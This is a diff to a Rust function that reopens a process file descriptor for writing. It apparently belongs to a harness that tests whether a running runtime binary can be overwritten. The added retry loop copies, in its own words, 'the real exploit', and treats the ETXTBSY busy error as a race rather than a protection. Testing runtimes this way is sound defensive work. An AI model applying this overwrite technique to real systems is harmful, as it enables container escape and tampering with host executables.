@@ -178,10 +178,21 @@ fn exe_reopen(pid: &str, secs: u64, ready: &str) -> Value {
         std::thread::sleep(std::time::Duration::from_millis(20));
     }
     let reopen = format!("/proc/self/fd/{}", handle.as_raw_fd());
-    let file = match fs::OpenOptions::new().read(true).write(true).open(&reopen) {
-        Ok(f) => f,
-        Err(e) => {
-            return json!({ "ok": false, "stage": "reopen", "changed": changed, "errno": e.raw_os_error() })
+    // As the real exploit does, retry while some process (the runtime's `start`,
+    // say) still executes the file: ETXTBSY is a race won by luck, not a protection.
+    const ETXTBSY: i32 = 26;
+    let busy_until = std::time::Instant::now() + std::time::Duration::from_secs(5);
+    let file = loop {
+        match fs::OpenOptions::new().read(true).write(true).open(&reopen) {
+            Ok(f) => break f,
+            Err(e)
+                if e.raw_os_error() == Some(ETXTBSY) && std::time::Instant::now() < busy_until =>
+            {
+                std::thread::sleep(std::time::Duration::from_millis(10));
+            }
+            Err(e) => {
+                return json!({ "ok": false, "stage": "reopen", "changed": changed, "errno": e.raw_os_error() })
+            }
         }
     };
     let mut byte = [0u8; 1];
